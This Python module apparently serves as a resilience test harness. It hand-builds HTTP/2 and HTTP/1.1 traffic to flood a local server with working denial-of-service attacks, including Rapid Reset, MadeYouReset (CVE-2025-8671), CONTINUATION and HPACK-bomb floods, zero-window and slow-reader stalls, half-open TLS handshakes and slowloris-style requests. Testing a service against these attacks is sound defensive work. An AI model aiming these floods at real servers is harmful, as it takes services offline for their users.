"""HTTP/2 as an attacker speaks it: frames by hand, without flow control and without waiting."""
import multiprocessing
import os
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
BATCH = 200  # frames, or pairs of them, sent at once
TURN_SECONDS = 0.002
NICE = 19
SOURCE = ("127.0.0.2", 0)  # not the address of those who mean well


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value, indexed=False):
    """A header field without Huffman coding (RFC 7541, section 6.2)."""
    field = b"\x40" if indexed else b"\0"
    for text in (name, value):
        size = len(text)
        if size < 127:
            field += bytes([size])
        else:
            field, size = field + b"\x7f", size - 127
            while size >= 128:
                field, size = field + bytes([size & 127 | 128]), size >> 7
            field += bytes([size])
        field += text
    return field


def head(path=b"/healthz", method=b"GET", more=b""):
    return b"".join(literal(name, value) for name, value in (
        (b":method", method), (b":scheme", b"http"), (b":path", path),
        (b":authority", b"localhost"))) + more


OPENING = PREFACE + frame(SETTINGS)
GET = head()
UPLOAD = head(b"/api/offline/changes", b"POST", literal(b"authorization", b"Bearer any"))


class Attack:
    """What one connection sends: `opening` first, then what `more` gives, again and again. The
    class's attributes say how it behaves; `stream` is the next one's number."""

    reads = True
    piece = 1 << 20  # bytes sent at once
    opening = OPENING

    def __init__(self):
        self.stream = 1

    def next_stream(self):
        stream, self.stream = self.stream, self.stream + 2
        return stream

    def more(self):
        return b""


class RapidReset(Attack):
    def more(self):
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) +
                        frame(RESET, 0, stream, b"\0\0\0\x08")
                        for stream in (self.next_stream() for _ in range(BATCH)))


class RapidResetCalls(Attack):
    """The same with requests that the service would have to answer."""

    def more(self):
        call = head(b"/api/offline/config", more=literal(b"authorization", b"Bearer any"))
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, call) +
                        frame(RESET, 0, stream, b"\0\0\0\x08")
                        for stream in (self.next_stream() for _ in range(BATCH)))


class MadeYouReset(Attack):
    """CVE-2025-8671: a window's increment of 0 is an error of the stream, so we reset it."""

    def more(self):
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) +
                        frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
                        for stream in (self.next_stream() for _ in range(BATCH)))


class Continuation(Attack):
    opening = OPENING + frame(HEADERS, END_STREAM, 1, GET)

    def more(self):
        return frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * BATCH


class Settings(Attack):
    def more(self):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * BATCH


class Ping(Attack):
    def more(self):
        return frame(PING, 0, 0, b"12345678") * BATCH


class PingUnread(Ping):
    """The same by one who does not read the answers."""
    reads = False


class EmptyData(Attack):
    opening = OPENING + frame(HEADERS, END_HEADERS, 1, UPLOAD)

    def more(self):
        return frame(DATA, 0, 1) * BATCH


class TinyRecords(Attack):
    """A body of which each byte is a record of TLS, by one who was answered before."""
    piece = 1
    opening = (OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET) +
               frame(HEADERS, END_HEADERS, 3, UPLOAD))

    def more(self):
        return frame(DATA, 0, 3, b" " * 2000)


class ClosedData(Attack):
    """DATA on a stream that is over."""
    opening = OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET)

    def more(self):
        return frame(DATA, 0, 1, b"x") * BATCH


class Priority(Attack):
    def more(self):
        return b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10")
                        for stream in (self.next_stream() for _ in range(BATCH)))


class WindowUpdate(Attack):
    def more(self):
        return frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * BATCH


class ZeroWindow(Attack):
    """Answers that are asked for and never taken."""
    opening = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))

    def more(self):
        if self.stream > 2 * 100:
            return b""
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, self.next_stream(),
                              head(b"/openapi.json")) for _ in range(20))


class HpackBomb(Attack):
    """One entry of 4 kB in the table of headers, and 16,000 references to it in each block."""
    opening = OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1,
                              GET + literal(b"a", b"b" * 4000, indexed=True))

    def __init__(self):
        super().__init__()
        self.stream = 3

    def more(self):
        return frame(HEADERS, END_STREAM | END_HEADERS, self.next_stream(), GET + b"\xbe" * 16000)


class TrailersBomb(HpackBomb):
    """The same in trailers."""

    def more(self):
        stream = self.next_stream()
        return (frame(HEADERS, END_HEADERS, stream, UPLOAD) +
                frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\xbe" * 16000))


class LargeHeads(HpackBomb):
    """Requests that never end, whose heads are as large as they may be."""
    stream_max = 2 * 120

    def more(self):
        if self.stream > self.stream_max:
            return b""
        return b"".join(frame(HEADERS, END_HEADERS, self.next_stream(), UPLOAD + b"\xbe" * 11)
                        for _ in range(20))


class SlowReader(Attack):
    """Opens all windows and takes what comes byte by byte."""
    reads = False
    opening = (PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 2**31 - 1)) +
               frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    more = ZeroWindow.more


class HalfOpen(Attack):
    """A TLS handshake that is begun and never ended."""
    opening = b"\x16\x03\x01\x02\x00\x01"


class SlowHead(Attack):
    """An HTTP/1.1 head that comes byte by byte."""
    opening = b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "

    def more(self):
        return b"x"


class Pipeline(Attack):
    """Requests of HTTP/1.1, one behind the other."""
    opening = b""

    def more(self):
        return b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n" * (10 * BATCH)


class PipelineUnread(Pipeline):
    reads = False


def _context():
    """TLS that trusts anybody and asks for HTTP/2."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


class _Slot:
    """One connection of a flood, made anew whenever it ends."""

    def __init__(self, kind, port, context):
        self.kind, self.port, self.context = kind, port, context
        self.socket = self.attack = None
        self.waiting = b""
        self.opened = 0

    def _open(self):
        self.opened += 1
        self.socket = socket.create_connection(("127.0.0.1", self.port), 5, SOURCE)
        if self.context:
            self.socket = self.context.wrap_socket(self.socket)
        self.socket.setblocking(False)
        self.attack = self.kind()
        self.waiting = self.attack.opening

    def turn(self):
        try:
            if self.socket is None:
                self._open()
            if self.attack.reads:
                self._read()
            if not self.waiting:
                self.waiting = self.attack.more()
            self._send()
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.close()

    def _send(self):
        for _ in range(BATCH):
            if not self.waiting:
                break
            self.waiting = self.waiting[self.socket.send(self.waiting[:self.attack.piece]):]

    def _read(self):
        try:
            while True:
                if not self.socket.recv(65536):
                    raise ConnectionResetError
        except (BlockingIOError, ssl.SSLWantReadError):
            pass

    def close(self):
        if self.socket:
            self.socket.close()
        self.socket = None


class Flood:
    """An attack on so many connections at once, for so long, from a process of its own. It gets
    the processor's time that nobody else wants, as if it came from a machine of its own."""

    def __init__(self, kind, port, connections, seconds, secure=False):
        self._opened = multiprocessing.Value("q", 0)
        self._process = multiprocessing.Process(
            target=self._run, args=(kind, port, connections, seconds, secure))
        self._process.start()

    def _run(self, kind, port, connections, seconds, secure):
        os.nice(NICE)
        context = _context() if secure else None
        slots = [_Slot(kind, port, context) for _ in range(connections)]
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            for slot in slots:
                slot.turn()
            time.sleep(TURN_SECONDS)
        for slot in slots:
            slot.close()
        self._opened.value = sum(slot.opened for slot in slots)

    def is_running(self):
        return self._process.is_alive()

    def end(self):
        """Waits for the end; the connections that it took."""
        self._process.join()
        assert self._process.exitcode == 0
        return self._opened.value


class Idle(Flood):
    """No attack: a process that only keeps the processor as busy as one may."""

    def _run(self, kind, port, connections, seconds, secure):
        os.nice(NICE)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            pass


class HalfOpenFlood(Flood):
    """Handshakes that are all begun, and none is ended."""

    def _run(self, kind, port, connections, seconds, secure):
        os.nice(NICE)
        clients = []
        for _ in range(connections):
            client = socket.create_connection(("127.0.0.1", port), 30, SOURCE)
            client.sendall(kind.opening)
            clients.append(client)
        time.sleep(seconds)
        self._opened.value = connections
